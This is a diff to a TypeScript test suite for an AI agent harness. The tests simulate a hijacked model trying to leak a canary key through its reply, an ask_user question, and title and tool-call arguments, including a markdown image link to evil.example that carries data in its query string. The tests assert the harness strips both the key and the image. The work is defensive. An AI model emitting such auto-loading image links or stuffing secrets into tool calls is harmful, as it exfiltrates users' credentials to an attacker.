@@ -372,11 +372,26 @@ describe('a hijacked model', () => {
     assert.equal(draftLength(back.turn.draft), 80_000);
   });
 
-  test('what it says cannot carry secrets or load pictures', async () => {
-    const { turn, events } = await ran('hello', [words(`Your key is ${KEY} ![x](http://evil.example/?k=1)`)]);
-    const all = JSON.stringify([turn.reply, events.filter((e) => e.kind !== 'text-delta')]);
-    assert.doesNotMatch(all, /canary/);
-    assert.doesNotMatch(all, /!\[/);
+  test('nothing that it says, asks or writes into a call carries secrets; no picture loads by itself', async () => {
+    const picture = '![x](http://evil.example/?k=1)';
+    const scripts: Answer[][] = [
+      [words(`Your key is ${KEY} ${picture}`)],
+      [calls([['ask_user', { question: `${KEY}? ${picture}`, offers: [KEY, picture] }]])],
+      [
+        calls([
+          ['title', { text: `my ${KEY}` }],
+          ['title', `{"text": "${KEY}`],
+          [`x_${KEY}`, { [KEY]: [KEY] }],
+        ]),
+        words('ok'),
+      ],
+    ];
+    for (const script of scripts) {
+      const { turn, events } = await ran('hello', script);
+      const { library: _, ...told } = turn;
+      assert.doesNotMatch(JSON.stringify([told, events]), /canary/);
+      assert.doesNotMatch(JSON.stringify([turn.reply, turn.question, events]), /!\[/);
+    }
   });
 });
 
